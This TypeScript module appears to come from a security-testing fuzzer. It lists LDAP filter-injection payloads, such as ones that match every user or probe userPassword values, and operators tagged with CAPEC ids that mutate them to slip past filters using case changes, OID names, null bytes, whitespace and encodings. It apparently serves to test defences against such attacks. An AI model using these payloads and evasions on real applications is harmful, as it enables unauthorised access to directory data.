import { commonEncodings, entityDecimal } from '../encodings.ts';
import { type EvasionClass, encoding, type Operator, syntax } from '../operator.ts';

const payloads: readonly string[] = [
  '*)(uid=*))(|(uid=*',
  'zed)(|(password=*))',
  '*)(objectClass=*)',
  'zed)(&)',
  '*)(|(mail=*))',
  'zed*)(cn=*',
  '*)(userPassword=a*)',
  'zed)(!(cn=q))',
  ')(cn=*))(|(cn=*',
  '*))(|(objectClass=person)',
  'admin)(|(uid=*)',
  'x)(telephoneNumber=*)(|(cn=*',
  '*)(sn=*))(&(sn=*',
  'zed)(memberOf=*))(|(sn=q',
  'zed)(homeDirectory=*))(&(uid=zed',
  '(|(uid=*)(cn=*))',
];

/** Names of attributes have no case. */
const nameCase: Operator = syntax('name-case', 'CAPEC-66 mixed case', (payload, random) =>
  payload.replaceAll(/[A-Za-z]+(?==)/g, (name) =>
    [...name].map((letter) => (random.below(2) === 0 ? letter.toUpperCase() : letter.toLowerCase())).join(''),
  ),
);

/** Other attributes. */
const otherAttribute: Operator = syntax('other-attribute', 'CAPEC-136 attributes', (payload, random) =>
  payload.replaceAll(/(?<=\()(?:uid|cn|sn|mail)(?==)/g, () =>
    random.pick(['givenName', 'sAMAccountName', 'department', 'ou', 'description', 'title']),
  ),
);

/** The attribute by its number. */
const objectId: Operator = syntax('object-id', 'CAPEC-136 attributes by OID', (payload) =>
  payload
    .replaceAll('(cn=', '(2.5.4.3=')
    .replaceAll('(sn=', '(2.5.4.4=')
    .replaceAll('(uid=', '(0.9.2342.19200300.100.1.1='),
);

/** Other comparisons that take everything. */
const otherComparison: Operator = syntax('other-comparison', 'CAPEC-136 comparisons', (payload, random) =>
  payload.replaceAll(/(?<=\((?:uid|cn|sn|mail))=\*/g, () => random.pick(['>=a', '~=a', '=a*', '=*a*', '<=z'])),
);

/** An extensible match. */
const extensible: Operator = syntax('extensible-match', 'CAPEC-136 matching rules', (payload) =>
  payload.replaceAll(/(?<=\((?:objectClass|userPassword))=(?=[a-z])/g, ':caseIgnoreMatch:='),
);

/** Blanks between filters, which many servers skip. */
const spaced: Operator = syntax('spaced', 'CAPEC-136 white space', (payload, random) =>
  payload.replaceAll(/(?<=\))\(/g, () => `${random.pick([' ', '  '])}(`).replaceAll('(|(', '(| ('),
);

/** The rest of the filter cut off by a null byte. */
const nullByte: Operator = syntax('null-byte', 'CAPEC-52 embedded null', (payload) => `${payload}\0`);

/** The same, still escaped. */
const escapedNull: Operator = encoding('escaped-null', 'CAPEC-52 embedded null', 1, (payload) => `${payload}%00`);

/** Another clause. */
const junkClause: Operator = syntax('junk-clause', 'CAPEC-136 padding', (payload, random) =>
  payload.replace(/(?<=\))\((?=[a-z])/, () => `(${random.word(4)}=${random.word(3)})(`),
);

/** Text in front belongs to the value that is left. */
const junkPrefix: Operator = syntax('junk-prefix', 'CAPEC-136 padding', (payload, random) =>
  payload.startsWith('(') ? null : random.word(5) + payload,
);

/** Letters of a value as escapes of filters. */
const escapedValue: Operator = syntax('escaped-value', 'CAPEC-71 filter escapes', (payload) =>
  payload.replaceAll(/(?<==)(a|q)(?=[*)]|$)/g, (letter) => `\\${letter.charCodeAt(0).toString(16)}`),
);

/** LDAP injection: filters that are closed and opened again. */
export const ldap: EvasionClass = {
  id: 'ldap',
  payloads,
  operators: [
    nameCase,
    otherAttribute,
    objectId,
    otherComparison,
    extensible,
    spaced,
    nullByte,
    escapedNull,
    junkClause,
    junkPrefix,
    escapedValue,
    ...commonEncodings,
    entityDecimal,
  ],
};
